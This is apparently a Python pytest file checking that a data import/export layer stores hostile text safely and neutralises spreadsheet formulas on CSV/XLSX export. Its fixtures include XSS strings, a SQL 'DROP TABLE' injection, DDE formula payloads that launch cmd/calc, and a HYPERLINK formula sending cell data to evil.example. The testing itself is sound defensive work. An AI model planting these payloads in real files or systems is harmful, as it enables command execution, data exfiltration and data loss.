"""Hostile text through import and export: stored intact (control characters stripped), formulas neutralised.

Decision (see data/importers/values.py): markup and formula-looking text is stored as
written — the store holds data, the UI escapes on display; C0/C1 control characters
(except tab and newline) and bidirectional overrides are stripped on import. CSV/XLSX
exports prefix text starting with = + - @ (after any quotes) with a single quote;
importing a CSV/XLSX takes one such quote off, so export → import returns the stored
text exactly.
"""
from __future__ import annotations

import csv
import json
import uuid

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from data.export import XLSX_CELL_MAX, export_layer
from data.importers import import_file
from data.importers.values import clean_text
from data.store import connect

HEADER = ["id", "occurred_at", "lat", "lon", "article", "drug", "quantity_g", "tablets", "persons", "station_id",
          "description"]
LONG = "Mô tả rất dài." * 7_143          # 100,002 characters
HOSTILE = {
    "H-script": "<script>alert('xss')</script>",
    "H-img": '<img src=x onerror="alert(1)">',
    "H-link": '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "H-plus": "+cmd|' /C calc'!A0",
    "H-minus": "-2+3+cmd|' /C calc'!A0",
    "H-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "H-long": LONG,
    "H-quote": "'=already quoted",
    "H-sql": "'); DROP TABLE incidents; --",
}
CONTROL = {"H-ctrl": ("a\x00b\x07c\x1b[31md\x7fe\u202eevil\u202c", "abc[31mdeevil")}
# a CSV/XLSX cell '=... is a quoted formula: the importer takes the spreadsheet's quote off
FROM_TABLE = {"H-quote": "=already quoted"}


def hostile_rows(village_points):
    lat, lon = village_points[0]
    texts = {**HOSTILE, **{k: v[0] for k, v in CONTROL.items()}}
    return [[k, "2024-04-03", lat, lon, "250", "heroin", None, None, 1, None, v] for k, v in texts.items()]


def expected():
    """What the store holds after importing hostile_rows from a CSV."""
    return {**HOSTILE, **{k: v[1] for k, v in CONTROL.items()}, **FROM_TABLE}


def stored_descriptions(con):
    return dict(con.execute("SELECT id, description FROM incidents WHERE id LIKE 'H-%'").fetchall())


def test_hostile_strings_are_stored_intact(demo_con, files, village_points):
    import_file(demo_con, "incidents", files.csv("h.csv", HEADER, hostile_rows(village_points)))
    got = stored_descriptions(demo_con)
    assert got == expected()
    assert len(got["H-long"]) == len(LONG) == 100_002
    assert demo_con.execute("SELECT count(*) FROM incidents").fetchone()[0] > 100    # the table is still there


def test_hostile_strings_from_xlsx_text_cells(demo_con, files, village_points):
    # Excel cells hold ≤ 32,767 characters and no control characters: those two stay out
    rows = [r for r in hostile_rows(village_points) if r[0] not in ("H-long", "H-ctrl")]
    import_file(demo_con, "incidents", files.xlsx("h.xlsx", HEADER, rows, text_cells=True))
    want = {k: v for k, v in expected().items() if k not in ("H-long", "H-ctrl")}
    assert stored_descriptions(demo_con) == want


def test_csv_export_neutralises_formulas_and_round_trips(demo_con, files, village_points, tmp_path):
    import_file(demo_con, "incidents", files.csv("h.csv", HEADER, hostile_rows(village_points)))
    out = tmp_path / "out.csv"
    export_layer(demo_con, "incidents", out)
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = {r["id"]: r for r in csv.DictReader(fh)}
    for key in ("H-link", "H-plus", "H-minus", "H-at", "H-quote"):
        assert rows[key]["description"] == "'" + expected()[key]
    assert rows["H-link"]["description"].startswith("'=HYPERLINK(")
    assert rows["H-script"]["description"] == HOSTILE["H-script"]
    assert rows["H-img"]["description"] == HOSTILE["H-img"]
    assert rows["H-long"]["description"] == LONG
    assert not any(r["description"][:1] in "=+-@" for r in rows.values() if r["description"])
    fresh = connect(":memory:")
    import_file(fresh, "incidents", out)
    assert stored_descriptions(fresh) == expected()        # exact round trip


def test_xlsx_export_neutralises_and_caps_cells(demo_con, files, village_points, tmp_path):
    import_file(demo_con, "incidents", files.csv("h.csv", HEADER, hostile_rows(village_points)))
    out = tmp_path / "out.xlsx"
    export_layer(demo_con, "incidents", out)
    ws = load_workbook(out)["incidents"]
    header = [c.value for c in ws[1]]
    cells = {row[0]: dict(zip(header, row, strict=True)) for row in ws.iter_rows(min_row=2, values_only=True)}
    assert cells["H-link"]["description"] == "'" + HOSTILE["H-link"]
    assert cells["H-at"]["description"] == "'" + HOSTILE["H-at"]
    assert cells["H-script"]["description"] == HOSTILE["H-script"]
    assert len(cells["H-long"]["description"]) == XLSX_CELL_MAX and cells["H-long"]["description"].endswith("…")
    formulas = [c for row in load_workbook(out)["incidents"].iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def test_geojson_export_keeps_text_exactly(demo_con, files, village_points, tmp_path):
    import_file(demo_con, "incidents", files.csv("h.csv", HEADER, hostile_rows(village_points)))
    out = tmp_path / "out.geojson"
    export_layer(demo_con, "incidents", out)
    feats = {f["properties"]["id"]: f["properties"] for f in json.loads(out.read_text("utf-8"))["features"]}
    assert {k: feats[k]["description"] for k in expected()} == expected()


@pytest.fixture()
def other_con():
    con = connect(":memory:")
    yield con
    con.close()


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.text(min_size=1, max_size=300))
def test_any_text_survives_csv_import_and_export(empty_con, other_con, tmp_path, text):
    """Property: whatever the text, import stores clean_text(text); CSV export → import gives it back exactly."""
    key = f"P-{uuid.uuid4().hex[:12]}"
    folder = tmp_path / key
    folder.mkdir()
    src = folder / "in.csv"
    with open(src, "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([HEADER, [key, "2024-04-03", 16.6, 106.6, "250", "heroin", "", "", "1", "", text]])
    import_file(empty_con, "incidents", src)
    stored = empty_con.execute("SELECT description FROM incidents WHERE id = ?", [key]).fetchone()[0]
    want = clean_text(text) or None
    if want is not None and want[:1] == "'" and want.lstrip("'")[:1] in ("=", "+", "-", "@", "\t", "\r"):
        want = want[1:]        # one quote before a formula is the spreadsheet's, taken off on import
    assert stored == want
    out = folder / "out.csv"
    export_layer(empty_con, "incidents", out)
    with open(out, encoding="utf-8-sig", newline="") as fh:
        row = next(r for r in csv.DictReader(fh) if r["id"] == key)
    value = row["description"]
    if stored and stored.lstrip("'")[:1] in ("=", "+", "-", "@", "\t", "\r"):
        assert value == "'" + stored
    else:
        assert value == (stored or "")
    import_file(other_con, "incidents", out)
    assert other_con.execute("SELECT description FROM incidents WHERE id = ?", [key]).fetchone()[0] == stored


@pytest.mark.parametrize("layer_name", ["<script>", "=cmd"])
def test_hostile_layer_names_are_refused_cleanly(demo_con, files, layer_name):
    from core.errors import InputError
    with pytest.raises(InputError):
        import_file(demo_con, layer_name, files.csv("x.csv", ["id"], [["a"]]))
